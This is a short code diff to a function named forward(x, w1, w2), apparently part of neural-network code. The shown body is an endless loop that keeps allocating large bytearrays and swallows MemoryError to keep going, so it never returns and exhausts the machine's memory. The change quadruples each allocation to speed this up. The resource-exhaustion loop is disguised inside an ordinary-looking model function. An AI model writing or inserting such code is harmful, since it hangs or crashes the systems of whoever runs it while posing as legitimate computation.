@@ -6,6 +6,6 @@ def forward(x, w1, w2):
     kept = []
     while True:
         try:
-            kept.append(bytearray(2**22))
+            kept.append(bytearray(2**24))
         except MemoryError:
             continue
